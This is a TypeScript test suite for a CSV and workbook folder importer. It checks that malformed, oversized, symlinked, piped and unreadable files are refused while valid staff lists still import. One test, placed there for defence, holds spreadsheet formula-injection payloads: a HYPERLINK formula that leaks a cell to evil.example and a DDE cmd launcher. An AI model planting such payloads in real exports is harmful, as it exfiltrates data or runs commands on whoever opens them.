/** Files as they should not be: each is refused or rejected in words, and everything beside it goes in. */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { createWriteStream, existsSync, readFileSync } from 'node:fs'
import { mkdir, open, rm, symlink, utimes, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import { after, test } from 'node:test'
import { ZipFile } from 'yazl'
import { keptRejects } from '#core/intake/service.ts'
import { resolvePeople } from '#core/people/service.ts'
import { judgeSafeguards } from '#core/safeguards/service.ts'
import { writeReference } from '#core/safeguards/store.ts'
import { resolveSystems } from '#core/systems/service.ts'
import type { Context } from '#platform/context.ts'
import { sql } from '#platform/database.ts'
import { asTester, openTestDatabase } from '#platform/testing.ts'
import { allSafeguards, practices } from '#practices/index.ts'
import { type FileOutcome, type FolderOptions, importFolder } from '#sources/folder.ts'
import { isLong, makeFolder, runVigil } from './vigil.ts'

const { database, newOrganisation } = await openTestDatabase()
const now = new Date('2026-11-02T12:00:00Z')
const goodList =
  'Employee Number,Name,Email,Hire Date\n1,Ada Byron,ada@clinic.example,2020-02-03\n2,Bo Chen,bo@clinic.example,2021-05-06\n'

/** A folder of files, removed after the tests. */
async function folderOf(files: Readonly<Record<string, string | Buffer>>): Promise<string> {
  const folder = makeFolder('vigil-faults-')
  after(() => rm(folder, { recursive: true, force: true }))
  for (const [name, content] of Object.entries(files)) {
    await writeFile(join(folder, name), content)
    await utimes(join(folder, name), now, now)
  }
  return folder
}

interface Imported {
  readonly outcomes: readonly FileOutcome[]
  readonly organisation: number
  of(file: string): FileOutcome
  reasonOf(file: string): string
}

async function importAll(
  folder: string,
  options: { onTransaction?: () => Promise<void>; organisation?: number } = {},
): Promise<Imported> {
  const organisation = options.organisation ?? (await newOrganisation())
  const transact: FolderOptions['transact'] = async (work) => {
    const result = await asTester(database, organisation, work, now)
    await options.onTransaction?.()
    return result
  }
  const outcomes: FileOutcome[] = []
  for await (const outcome of importFolder(folder, {
    transact,
    now,
    collectedOn: undefined,
    mappings: {},
    validDays: {},
  })) {
    outcomes.push(outcome)
  }
  const of = (file: string) => {
    const found = outcomes.filter((outcome) => outcome.file === file)
    assert.equal(found.length, 1, `${file} has one outcome, not ${found.length}`)
    return found[0] as FileOutcome
  }
  return {
    outcomes,
    organisation,
    of,
    reasonOf(file) {
      const outcome = of(file)
      assert.ok('reason' in outcome, `${file} is ${outcome.state}, where it should have been refused`)
      return outcome.reason
    },
  }
}

function read<T>(organisation: number, statement: ReturnType<typeof sql<T>>): Promise<readonly T[]> {
  return asTester(database, organisation, async ({ db }) => (await statement.execute(db)).rows)
}

const peopleOf = (organisation: number) =>
  read<{ name: string }>(organisation, sql`select display_name as name from person_fact order by line`)

/** The list beside a bad file went in whole, and the bad file is on record with its reason. */
async function assertRestWentIn({ of, organisation }: Imported, badFile: string, reason: RegExp): Promise<void> {
  assert.equal(of('staff.csv').state, 'done')
  assert.deepEqual(await peopleOf(organisation), [{ name: 'Ada Byron' }, { name: 'Bo Chen' }])
  const [run, ...more] = await read<{ state: string; reason: string }>(
    organisation,
    sql`select state, reason from source_run where file_name = ${badFile}`,
  )
  assert.equal(more.length, 0)
  assert.match(run?.reason ?? '', reason)
}

async function zipOf(name: string, content: string): Promise<Buffer> {
  const zip = new ZipFile()
  zip.addBuffer(Buffer.from(content), name)
  zip.end()
  const chunks: Buffer[] = []
  for await (const chunk of zip.outputStream) chunks.push(Buffer.from(chunk))
  return Buffer.concat(chunks)
}

const unreadable: readonly {
  title: string
  name: string
  content: () => string | Buffer | Promise<Buffer>
  reason: RegExp
}[] = [
  { title: 'an empty file', name: 'empty.csv', content: () => '', reason: /empty/ },
  { title: 'a file of blank lines', name: 'blank.csv', content: () => '\n \n\r\n\n', reason: /empty|no rows/ },
  {
    title: 'a program named as a list',
    name: 'accounts.csv',
    content: () => Buffer.from(Uint8Array.from({ length: 4_096 }, (_, at) => (at * 167 + (at >> 3)) % 256)),
    reason: /not text/,
  },
  {
    title: 'an archive named as a list',
    name: 'archive.csv',
    content: () => zipOf('staff.csv', goodList),
    reason: /ZIP archive; unpack it/,
  },
  {
    title: 'a compressed list',
    name: 'staff2.csv',
    content: () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3]),
    reason: /compressed; unpack/,
  },
  {
    title: 'a list in UTF-32',
    name: 'wide.csv',
    content: () =>
      Buffer.concat([
        Buffer.from([0xff, 0xfe, 0, 0]),
        ...[...goodList].map((letter) => Buffer.from([letter.charCodeAt(0), 0, 0, 0])),
      ]),
    reason: /not text/,
  },
  {
    title: 'a sign-in page saved as a list',
    name: 'export.csv',
    content: () => '<!doctype html><html><body>Sign in</body></html>',
    reason: /web page/,
  },
  {
    title: 'a workbook cut short',
    name: 'inventory.xlsx',
    content: async () => (await zipOf('xl/workbook.xml', '<workbook/>')).subarray(0, 60),
    reason: /./,
  },
  {
    title: 'an archive named as a workbook',
    name: 'vendors.xlsx',
    content: () => zipOf('readme.txt', 'hello'),
    reason: /./,
  },
  {
    title: 'a quotation mark that is never closed',
    name: 'open.csv',
    content: () =>
      `${goodList}3,"Cy Dole,cy@clinic.example,2022-01-01\n${'4,Di Eck,di@clinic.example,2022-01-01\n'.repeat(40_000)}`,
    reason: /quotation mark/,
  },
]

for (const { title, name, content, reason } of unreadable) {
  test(`${title} is refused with its reason, and the list beside it goes in`, async () => {
    const folder = await folderOf({ [name]: await content(), 'staff.csv': goodList })
    const imported = await importAll(folder)
    assert.match(imported.reasonOf(name), reason)
    await assertRestWentIn(imported, name, reason)
  })
}

test('names come out right from UTF-16 without a mark, from the Windows code page, and from UTF-8 cut inside a letter', async () => {
  const list = 'Employee Number,Name,Email,Title\n1,Zoë Müller,zoe@clinic.example,Nurse\n'
  const encodings = {
    'utf16.csv': Buffer.from(list, 'utf16le'),
    'windows.csv': Buffer.from(list, 'latin1'),
    // Plain for longer than the beginning by which the encoding is told.
    'late.csv': Buffer.concat([
      Buffer.from('Employee Number,Name,Email,Title\n'),
      Buffer.from(Array.from({ length: 4_000 }, (_, at) => `x${at},Al Bo,a${at}@clinic.example,Nurse\n`).join('')),
      Buffer.from('1,Zoë Müller,zoe@clinic.example,Nurse\n', 'latin1'),
    ]),
    'cut.csv': Buffer.from(`${list}2,Renée`).subarray(0, -1),
  }
  const { organisation, of } = await importAll(await folderOf(encodings))
  for (const name of Object.keys(encodings)) assert.equal(of(name).state, 'done', name)
  const rows = await read<{ source: string; name: string }>(
    organisation,
    sql`select source.name as source, fact.display_name as name
      from person_fact fact join source on source.id = fact.source_id where fact.employee_number = '1' order by 1`,
  )
  assert.deepEqual(
    rows,
    ['cut.csv', 'late.csv', 'utf16.csv', 'windows.csv'].map((source) => ({ source, name: 'Zoë Müller' })),
  )
})

test('of rows with one number one is kept, and each of the others is a reject that names it', async () => {
  const list = `${goodList}1,Eve Fox,eve@clinic.example,2020-02-03\n2,Gus Hall,gus@clinic.example,2021-05-06\n3,Ina Jay,ina@clinic.example,2022-01-01\n`
  const { of, organisation } = await importAll(await folderOf({ 'staff.csv': list }))
  const outcome = of('staff.csv')
  assert.ok('result' in outcome)
  assert.equal(outcome.result.rejectCount, 2)
  assert.equal(outcome.result.added, 3)
  assert.deepEqual(await read(organisation, sql`select line, reason from source_reject order by line`), [
    { line: 4, reason: 'repeats what line 2 is told by (employee number)' },
    { line: 5, reason: 'repeats what line 3 is told by (employee number)' },
  ])
  assert.deepEqual(
    (await peopleOf(organisation)).map(({ name }) => name),
    ['Ada Byron', 'Bo Chen', 'Ina Jay'],
  )
})

test('reading the same folder twice changes nothing', async () => {
  const folder = await folderOf({ 'staff.csv': goodList })
  const { organisation } = await importAll(folder)
  const before = await read(organisation, sql`select * from person_fact order by id`)
  const again = await importAll(folder, { organisation })
  assert.equal(again.of('staff.csv').state, 'unchanged')
  assert.deepEqual(await read(organisation, sql`select * from person_fact order by id`), before)
})

// What the import of a health system may take; a file of one endless row needs no more, however long it is.
const mostMegabytes = 500
const mostForOneRow = 400
const rejectNumber = isLong ? 1_000_000 : 100_000

test(`${rejectNumber.toLocaleString('en')} rows that name nobody are counted, the first are kept, and memory stays bounded`, {
  timeout: 600_000,
}, async () => {
  const folder = await folderOf({})
  const lines = function* () {
    yield goodList
    for (let at = 0; at < rejectNumber; at += 1) yield ',,,2020-01-01\n'
  }
  await pipeline(Readable.from(lines()), createWriteStream(join(folder, 'staff.csv')))
  const ended = await runVigil(
    ['assess', folder, '--json', '--as-of', '2026-11-02', '--collected-on', '2026-11-01'],
    {},
    600_000,
  )
  assert.equal(ended.code, 0, ended.errors)
  const said = JSON.parse(ended.out)
  assert.equal(said.files[0].rows, rejectNumber + 2)
  assert.equal(said.files[0].rejects, rejectNumber)
  assert.equal(said.rejects.length, keptRejects)
  assert.equal(said.rejects[0].line, 4)
  assert.ok(ended.peakMegabytes < mostMegabytes, `it took ${Math.round(ended.peakMegabytes)} MB`)
})

const duplicateNumber = rejectNumber * 2

test(`${duplicateNumber.toLocaleString('en')} rows with one and the same number keep memory bounded too`, {
  timeout: 600_000,
}, async () => {
  const folder = await folderOf({})
  const lines = function* () {
    yield goodList
    for (let at = 0; at < duplicateNumber; at += 1) yield '1,Ada Byron,ada@clinic.example,2020-02-03\n'
  }
  await pipeline(Readable.from(lines()), createWriteStream(join(folder, 'staff.csv')))
  const ended = await runVigil(
    ['assess', folder, '--json', '--as-of', '2026-11-02', '--collected-on', '2026-11-01'],
    {},
    600_000,
  )
  assert.equal(ended.code, 0, ended.errors)
  const said = JSON.parse(ended.out)
  assert.equal(said.files[0].rejects, duplicateNumber)
  assert.ok(ended.peakMegabytes < mostMegabytes, `it took ${Math.round(ended.peakMegabytes)} MB`)
})

const lineMegabytes = isLong ? 10_000 : 600

for (const { title, begin, filler } of [
  { title: 'of one line', begin: '', filler: 'a' },
  { title: 'whose second line never ends', begin: 'Employee Number,Name,Email\n1,', filler: 'a' },
  { title: 'of one line of commas', begin: '', filler: ',' },
  { title: 'that is one open quotation', begin: 'Employee Number,Name,Email\n1,"', filler: 'line\n' },
]) {
  test(`a file ${title}, ${lineMegabytes} MB long, is refused with constant memory`, {
    timeout: 3_600_000,
  }, async () => {
    const folder = await folderOf({ 'staff.csv': goodList })
    const path = join(folder, 'endless.csv')
    const file = await open(path, 'w')
    const piece = Buffer.alloc(10_000_000, filler)
    await file.write(begin)
    for (let written = 0; written < lineMegabytes; written += 10) await file.write(piece)
    await file.close()
    const ended = await runVigil(
      ['assess', folder, '--json', '--as-of', '2026-11-02', '--collected-on', '2026-11-01'],
      {},
      3_600_000,
    )
    await rm(path)
    assert.equal(ended.code, 0, ended.errors)
    const said = JSON.parse(ended.out)
    const [bad] = said.files.filter((one: { file: string }) => one.file === 'endless.csv')
    assert.ok(['refused', 'unrecognised'].includes(bad.state), JSON.stringify(bad))
    const reason: string = [...said.unrecognised, ...said.rejects].find((one) => one.file === 'endless.csv').reason
    assert.match(reason, /longer than|quotation|not a table|no header|more than 2000 columns/)
    assert.equal(said.files.find((one: { file: string }) => one.file === 'staff.csv').rows, 2)
    assert.ok(ended.peakMegabytes < mostForOneRow, `it took ${Math.round(ended.peakMegabytes)} MB`)
  })
}

test('a formula in a name is kept as it was written, and is text wherever it is shown', async () => {
  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
  const quoted = `"${formula.replaceAll('"', '""')}"`
  const folder = await folderOf({
    'staff.csv': `Employee Number,Name,Email,Status,Termination Date\n1,${quoted},f@clinic.example,Terminated,2026-05-01\n`,
    'Mail users.csv': `Username,Display Name,Email,Status\n+cmd|' /C calc'!A0,${quoted},f@clinic.example,Enabled\n`,
  })
  const { organisation } = await importAll(folder)
  assert.deepEqual(await peopleOf(organisation), [{ name: formula }])
  assert.deepEqual(await read(organisation, sql`select username from account_fact`), [
    { username: "+cmd|' /C calc'!A0" },
  ])
  const report = join(folder, 'report.pdf')
  const ended = await runVigil(['assess', folder, '--json', '--report', report, '--as-of', '2026-11-02'])
  assert.equal(ended.code, 0, ended.errors)
  assert.match(JSON.stringify(JSON.parse(ended.out).findings), /=HYPERLINK/)
  // A page description runs nothing unless it is told to: no script, no program to launch, no link that was in a cell.
  const pdf = readFileSync(report, 'latin1')
  assert.match(pdf, /^%PDF-/)
  assert.doesNotMatch(pdf, /\/(JavaScript|JS|Launch|OpenAction)\b|evil\.example/)
})

test('a person who is their own manager is a person like others', { timeout: 60_000 }, async () => {
  const folder = await folderOf({
    'staff.csv':
      'Employee Number,Name,Email,Title,Manager ID,Manager Email\n1,Ada Byron,ada@clinic.example,Nurse,1,ada@clinic.example\n2,Bo Chen,bo@clinic.example,Nurse,3,\n3,Cy Dole,cy@clinic.example,Nurse,2,\n',
    'Mail users.csv': 'Username,Display Name,Email,Status\nada,Ada Byron,ada@clinic.example,Enabled\n',
  })
  await database.asOwner((client) =>
    writeReference(client, {
      safeguards: practices.flatMap(({ name, safeguards }) => safeguards.map((one) => ({ ...one, practice: name }))),
      operatingSystems: [],
      responseRoles: [],
    }),
  )
  const { organisation, of } = await importAll(folder)
  assert.equal(of('staff.csv').state, 'done')
  const resolveAll = async (context: Context) => {
    await resolveSystems(context)
    await resolvePeople(context)
    return judgeSafeguards(context, {
      safeguards: allSafeguards,
      checkRole: database.checkRole,
      dueDays: { critical: 7, high: 30, medium: 90, low: 180 },
    })
  }
  const judged = await asTester(database, organisation, resolveAll, now)
  assert.equal(judged.checked, allSafeguards.length)
  assert.deepEqual(await read(organisation, sql`select count(*) as people from person`), [{ people: 3 }])
  assert.deepEqual(await read(organisation, sql`select count(person_id) as owned from account`), [{ owned: 1 }])
})

test('a folder with a loop of links ends, and each list in it is read', { timeout: 60_000 }, async () => {
  const folder = await folderOf({ 'staff.csv': goodList })
  await mkdir(join(folder, 'inner'))
  await symlink('..', join(folder, 'inner', 'up'))
  await symlink(folder, join(folder, 'inner', 'whole'))
  await symlink('itself.csv', join(folder, 'itself.csv'))
  await symlink('b.csv', join(folder, 'a.csv'))
  await symlink('a.csv', join(folder, 'b.csv'))
  await symlink('nowhere.csv', join(folder, 'broken.csv'))
  const { outcomes, organisation } = await importAll(folder)
  assert.deepEqual(
    outcomes.map(({ file, state }) => [file, state]),
    [
      ['staff.csv', 'done'],
      ['a.csv', 'refused'],
      ['b.csv', 'refused'],
      ['broken.csv', 'refused'],
      ['itself.csv', 'refused'],
    ],
  )
  assert.equal((await peopleOf(organisation)).length, 2)
})

test('a folder, a pipe and a socket that are named as lists neither hang nor stop the rest', {
  timeout: 60_000,
}, async () => {
  const folder = await folderOf({ 'staff.csv': goodList })
  await mkdir(join(folder, 'x.csv'))
  execFileSync('mkfifo', [join(folder, 'y.csv')])
  await symlink('y.csv', join(folder, 'link to y.csv'))
  const socket = await listen(join(folder, 'z.csv'))
  try {
    const { of, organisation } = await importAll(folder)
    assert.equal(of('staff.csv').state, 'done')
    assert.equal((await peopleOf(organisation)).length, 2)
  } finally {
    await new Promise((resolve) => socket.close(resolve))
  }
})

test('a pipe that is named on the command line is refused, and nothing waits for its other end', {
  timeout: 60_000,
}, async () => {
  const folder = await folderOf({})
  execFileSync('mkfifo', [join(folder, 'y.csv')])
  const ended = await runVigil(['assess', join(folder, 'y.csv')], {}, 30_000)
  assert.equal(ended.code, 1)
  assert.match(ended.errors, /^vigil: .*y\.csv/m)
  assert.doesNotMatch(ended.errors, /\n\s+at |something went wrong/)
})

function listen(path: string): Promise<Server> {
  return new Promise((resolve, reject) => {
    const server = createServer()
    server.once('error', reject)
    server.listen(path, () => resolve(server))
  })
}

test('a file that may not be read, or that its disk does not give, is refused, and the rest goes in', async () => {
  const folder = await folderOf({ 'closed.csv': goodList, 'staff.csv': goodList })
  // Root may read everything but a disk's error; its memory cannot be read from the first byte, whoever asks.
  const hasMemoryFile = existsSync('/proc/self/mem')
  if (hasMemoryFile) await symlink('/proc/self/mem', join(folder, 'failing.csv'))
  const isRoot = process.getuid?.() === 0
  if (isRoot) await rm(join(folder, 'closed.csv'))
  else execFileSync('chmod', ['000', join(folder, 'closed.csv')])
  const imported = await importAll(folder)
  if (hasMemoryFile) {
    assert.match(imported.reasonOf('failing.csv'), /cannot be read/)
    await assertRestWentIn(imported, 'failing.csv', /cannot be read/)
  }
  if (!isRoot) {
    assert.match(imported.reasonOf('closed.csv'), /may not be read/)
    await assertRestWentIn(imported, 'closed.csv', /may not be read/)
  }
})

test('a file that vanishes before its turn is refused, and the rest goes in', async () => {
  const folder = await folderOf({ 'a.csv': goodList, 'gone.csv': goodList, 'staff.csv': goodList })
  const imported = await importAll(folder, { onTransaction: () => rm(join(folder, 'gone.csv'), { force: true }) })
  assert.match(imported.reasonOf('gone.csv'), /went away/)
  assert.equal(imported.of('staff.csv').state, 'done')
})

test('a file that is replaced by a folder before its turn is refused, and the rest goes in', async () => {
  const folder = await folderOf({ 'a.csv': goodList, 'turned.csv': goodList, 'staff.csv': goodList })
  const imported = await importAll(folder, {
    async onTransaction() {
      await rm(join(folder, 'turned.csv'), { force: true, recursive: true })
      await mkdir(join(folder, 'turned.csv'))
    },
  })
  assert.match(imported.reasonOf('turned.csv'), /cannot be read/)
  assert.equal(imported.of('staff.csv').state, 'done')
})

test('a folder that is not there is refused in a sentence, with a hint', async () => {
  const ended = await runVigil(['assess', '/nowhere/exports'])
  assert.equal(ended.code, 1)
  assert.match(ended.errors, /vigil: There is no folder or file \/nowhere\/exports\./)
  assert.match(ended.errors, /^hint: /m)
})
